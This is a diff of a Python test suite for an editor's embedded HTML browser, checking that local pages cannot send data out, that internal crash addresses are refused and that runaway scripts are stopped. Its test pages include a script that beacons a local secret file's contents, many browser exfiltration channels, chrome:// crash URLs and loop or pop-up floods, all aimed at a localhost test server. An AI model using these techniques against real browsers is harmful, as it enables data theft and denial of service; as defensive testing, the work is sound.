@@ -1,16 +1,16 @@
 """The internal browser of the real program, looked at from outside: by the colours on the screen, the titles of the
 windows, the files that it leaves."""
 
-import http.server
 import re
 import shutil
 import stat
 import subprocess
 import sys
-import threading
+import time
 import unittest
 
 sys.dont_write_bytecode = True
+from counting_server import CountingServer  # noqa: E402
 from harness import AS_USER, Session, built  # noqa: E402
 from pages import read_pages  # noqa: E402
 from picture import Picture  # noqa: E402
@@ -183,25 +183,25 @@ class BrowserTest(unittest.TestCase):
         packages = list(session.home.rglob("balik*"))
         self.assertEqual(packages, [session.home / "balik.tar.gz"])
 
+    def serve(self, page=""):
+        server = CountingServer(page)
+        self.addCleanup(server.close)
+        return server
+
+    def visit(self, address):
+        self.session.key("alt+a", "ctrl+a")
+        self.session.type(f"{address}\n")
+
+    def answer(self, title, *keys, shot=None):
+        self.session.activate(self.session.wait_window(title))
+        self.session.shot(shot) if shot else None
+        self.session.key(*keys)
+        self.session.wait_no_window(title)
+
     def test_a_local_page_reaches_the_net_only_by_the_persons_word(self):
         session = self.session
-        asked = []
-
-        class Site(http.server.BaseHTTPRequestHandler):
-            def do_GET(self):
-                asked.append(self.path)
-                self.send_response(200)
-                self.end_headers()
-                self.wfile.write(f'<TITLE>Sit</TITLE><BODY BGCOLOR="{PINK}">'.encode())
-
-            def log_message(self, *_):
-                pass
-
-        server = http.server.HTTPServer(("127.0.0.1", 0), Site)
-        self.addCleanup(server.server_close)
-        self.addCleanup(server.shutdown)
-        threading.Thread(target=server.serve_forever, daemon=True).start()
-        site = f"http://127.0.0.1:{server.server_port}"
+        server = self.serve(f'<TITLE>Sit</TITLE><BODY BGCOLOR="{PINK}">')
+        site = f"http://127.0.0.1:{server.port}"
         self.write("secret.txt", "secret")
         path = self.write("stranka.html", f"""<TITLE>Stranka</TITLE><IMG SRC="{site}/picture">
             <IFRAME SRC="secret.txt" onload="new Image().src='{site}/beacon?' + this.contentDocument.body.innerText;
@@ -213,15 +213,151 @@ class BrowserTest(unittest.TestCase):
         self.press_toolbar_key(main)
         browser = self.shown("secret")
         link = self.boxes(browser, {"link": BLUE})["link"].middle
+        session.shot("browser-withheld")
         for key, title in (("Return", "secret"), ("alt+a", "Sit")):  # No is the default
             session.click(browser, *link)
-            session.activate(session.wait_window("Zpráva stránky"))
-            session.shot("browser-net")
-            session.key(key)
-            session.wait_no_window("Zpráva stránky")
+            self.answer("Pelmar VEX", key, shot="browser-net")
             self.wait_title(browser, f"HTML testovací browser ({title})")
         self.boxes(browser, {"page": PINK})
-        self.assertEqual([path for path in asked if path != "/favicon.ico"], ["/link"])
+        self.assertEqual(server.paths(), ["/link"])
+        # With its picture, once, and without its scripts.
+        session.key("alt+Left")
+        self.wait_title(browser, "HTML testovací browser (secret)")
+        session.key("alt+n")
+        self.wait_title(browser, "HTML testovací browser (Stranka)")
+        session.wait_until(lambda: server.paths() == ["/link", "/picture"], "the picture")
+        session.shot("browser-loaded")
+        session.key("F5")
+        self.wait_title(browser, "HTML testovací browser (secret)")
+        self.assertEqual(server.paths(), ["/link", "/picture"])
+
+    def test_a_local_page_sends_nothing_out(self):
+        server = self.serve()
+        peer = """document.body.append('began '); var peer = new (WHERE.RTCPeerConnection)({iceServers: [{urls: 'stun:SITE'},
+            {urls: 'turn:SITE', username: 'secret', credential: 'x'},
+            {urls: 'turn:SITE?transport=tcp', username: 'secret', credential: 'x'}]});
+            peer.createDataChannel('a'); peer.createOffer().then(offer => peer.setLocalDescription(offer));"""
+        socket = "document.body.append('began '); new WebSocket('ws://SITE/socket');"
+        in_frame = '<IFRAME SRCDOC="<BODY><SCRIPT>%s</SCRIPT>"></IFRAME>'
+        worker = "var w = new Worker(URL.createObjectURL(new Blob([`%s; postMessage(0)`]))); w.onmessage = () => document.body.append('began')"
+        pages = {
+            "peer": f"<SCRIPT>{peer.replace('WHERE', 'window')}</SCRIPT>",
+            "peer of a frame": f"<IFRAME></IFRAME><SCRIPT>{peer.replace('WHERE', 'frames[0]')}</SCRIPT>",
+            "peer in a frame": in_frame % peer.replace("WHERE", "window"),
+            "socket": f"<SCRIPT>{socket}</SCRIPT>",
+            "socket in a frame": in_frame % socket,
+            "worker": "<SCRIPT>%s</SCRIPT>" % worker % "new WebSocket('ws://SITE/w'); fetch('http://SITE/w', {mode: 'no-cors'}).catch(e => 0)",
+            "requests": """<SCRIPT>new EventSource('http://SITE/events'); navigator.sendBeacon('http://SITE/beacon', 'x');
+                fetch('http://SITE/fetch', {mode: 'no-cors', keepalive: true}).catch(e => 0);
+                var r = new XMLHttpRequest; r.open('POST', 'http://SITE/xhr'); r.send('x');
+                try { new WebTransport('https://SITE/transport') } catch (e) {}
+                try { navigator.serviceWorker.register('http://SITE/worker.js').catch(e => 0) } catch (e) {}
+                try { new SharedWorker('http://SITE/shared.js') } catch (e) {}
+                import('http://SITE/module.js').catch(e => 0); document.body.append('began')</SCRIPT>""",
+            "links": "".join(f"<LINK REL='{rel}' AS='image' HREF='http://SITE/{rel}'>" for rel in (
+                "prefetch", "preload", "preconnect", "dns-prefetch", "prerender", "modulepreload", "icon", "manifest",
+                "stylesheet")) + "began",
+            "parts": """<STYLE>@import 'http://SITE/style'; @font-face { font-family: f; src: url(http://SITE/font) }
+                P { font-family: f; background: url(http://SITE/background) }</STYLE><P>began<SCRIPT SRC='http://SITE/script'>
+                </SCRIPT><IMG SRC='http://SITE/img' SRCSET='http://SITE/set 2x'><VIDEO AUTOPLAY SRC='http://SITE/video' POSTER='http://SITE/p'>
+                </VIDEO><AUDIO AUTOPLAY SRC='http://SITE/audio'></AUDIO><SVG><image href='http://SITE/svg'/></SVG>""",
+            "frames": """<IFRAME SRC='http://SITE/frame'></IFRAME><OBJECT DATA='http://SITE/object'></OBJECT>
+                <EMBED SRC='http://SITE/embed'>began""",
+            "forms": """<IFRAME NAME='in'></IFRAME><FORM TARGET='in' METHOD='post' ACTION='http://SITE/form'></FORM>
+                <FORM METHOD='post' ACTION='http://SITE/form2'></FORM>began<SCRIPT>document.forms[0].submit(); document.forms[1].submit()</SCRIPT>""",
+            "refresh": """<IFRAME SRCDOC="<META HTTP-EQUIV='refresh' CONTENT='0; URL=http://SITE/refresh'>"></IFRAME>
+                <META HTTP-EQUIV='refresh' CONTENT='0; URL=http://SITE/refresh2'>began""",
+            "policy": """<META HTTP-EQUIV='Content-Security-Policy' CONTENT="script-src 'none'; report-uri http://SITE/report">
+                <SCRIPT>1</SCRIPT>began""",
+            "ping": "<A HREF='#x' PING='http://SITE/ping'>x</A>began<SCRIPT>document.links[0].click()</SCRIPT>",
+            "windows": """began<SCRIPT>open('http://SITE/window'); open('about:blank').location = 'http://SITE/blank'</SCRIPT>""",
+        }
+        site = f"127.0.0.1:{server.port}"
+        files = [self.write(f"{name}.html", "<BODY>" + page.replace("SITE", site)) for name, page in pages.items()]
+        for name, page in zip(pages, read_pages(*files, linger=1000)):
+            self.assertIn("began", page["text"], name)
+        self.assertEqual(server.arrived, [])
+
+    def test_addresses_within_the_engine_are_refused(self):
+        session = self.session
+        server = self.serve(f'<TITLE>Sit</TITLE><BODY BGCOLOR="{PINK}">')
+        crash = "chrome://inducebrowsercrashforrealz"
+        path = self.write("a.html", f"""<TITLE>A</TITLE><A HREF="{crash}"><IMG WIDTH="60" HEIGHT="60" STYLE="background:{BLUE}"
+            ALT=""></A><SCRIPT>for (const address of ['{crash}', 'chrome://gpucrash', 'view-source:file:///', 'devtools://x',
+            'qrc:/x']) {{ try {{ location = address }} catch (e) {{}} }}</SCRIPT>""")
+        session.start(PROGRAM, "-BROWSER", **NO_NETWORK, no_proxy="127.0.0.1")
+        browser = session.wait_window(re.compile(r"HTML [Tt]estovací +browser.*"))
+        session.activate(browser)
+        self.visit(f"file://{path}")
+        self.wait_title(browser, "HTML testovací browser (A)")
+        for address in (crash, "CHROME://gpucrash", "chrome://crash", "about:crash", "view-source:file:///etc", "chrome-untrusted://x",
+                        "devtools://devtools", "javascript:document.title=1", "qrc:/x", "blob:x", "filesystem:x", "ftp://a.cz/"):
+            self.visit(address)
+            self.answer("Interní browser", "Return", shot="browser-refused")
+            self.assertEqual(session.title(browser), "HTML testovací browser (A)")
+        session.click(browser, *self.boxes(browser, {"link": BLUE})["link"].middle)
+        self.visit(f"http://127.0.0.1:{server.port}/?to={crash}")
+        session.wait_until(lambda: len(server.paths()) == 1, "the redirect")
+        self.visit(f"http://127.0.0.1:{server.port}/")
+        self.wait_title(browser, "HTML testovací browser (Sit)")
+        self.visit("data:text/html,<title>Data</title>")
+        self.wait_title(browser, "HTML testovací browser (Data)")
+
+    def renderers(self):
+        """The processor time of each page's process, in its number's place."""
+        listing = self.session._run("ps", "-eo", "pid,pgid,pcpu,args")
+        rows = [line.split(None, 3) for line in listing.split("\n") if "--type=renderer" in line]
+        return {row[0] for row in rows if row[1] == str(self.session.program.pid)}
+
+    def test_a_page_that_wont_stop_is_ended(self):
+        session = self.session
+        pages = {"loop": "<SCRIPT>setTimeout(() => { for (;;); }, 300)</SCRIPT>",
+                 "recursion": "<SCRIPT>function deep() { try { deep() } catch (e) { deep() } } setTimeout(deep, 300)</SCRIPT>",
+                 "windows": "<SCRIPT>setTimeout(() => { for (;;) window.open('windows.html') }, 300)</SCRIPT>",
+                 "alerts": "<SCRIPT>setTimeout(() => { for (;;) alert('znovu') }, 300)</SCRIPT>"}
+        good = self.write("good.html", f'<TITLE>Good</TITLE><BODY BGCOLOR="{GREEN}">')
+        main = self.start(good, title=f"Pelmar VEX ({good})")
+        self.press_toolbar_key(main)
+        browser = self.shown("Good")
+        for name, page in pages.items():
+            path = self.write(f"{name}.html", f"<TITLE>{name}</TITLE>{page}")
+            for way in ("address", "stop", "close"):
+                with self.subTest(name, way=way):
+                    self.visit(f"file://{path}")
+                    self.wait_title(browser, f"HTML testovací browser ({name})")
+                    before = self.renderers()
+                    if name == "alerts":
+                        message = session.wait_window("Zpráva stránky")
+                        # The editor goes on beside it.
+                        session.activate(main)
+                        session.key("ctrl+Home")
+                        session.type("x")
+                        self.wait_title(main, f"Pelmar VEX ({good})*")
+                        for number in range(3):
+                            message = session.wait_window("Zpráva stránky")
+                            session.activate(message)
+                            session.shot(f"browser-alert-{number}")
+                            session.key(*(("alt+d", "Return") if number == 2 else ("Return",)))
+                            session.wait_until(lambda: session.window("Zpráva stránky") != message, "the answer")
+                        session.activate(browser)
+                    else:
+                        time.sleep(0.5)  # the page begins its loop
+                    if way == "address":
+                        self.visit(f"file://{good}")
+                    elif way == "stop":
+                        session.key("Escape")
+                    else:
+                        session.close(browser)
+                        session.wait_no_window(f"HTML testovací browser ({name})")
+                        session.activate(main)
+                    session.wait_until(lambda: not before & self.renderers(), "the end of the page", 8)
+                    if way == "close":
+                        self.press_toolbar_key(main)
+                        browser = self.shown("Good")
+                    elif way == "stop":
+                        self.visit(f"file://{good}")
+                    self.wait_title(browser, "HTML testovací browser (Good)")
+                    self.boxes(browser, {"page": GREEN})
 
     def test_it_can_be_the_whole_program(self):
         session = self.session
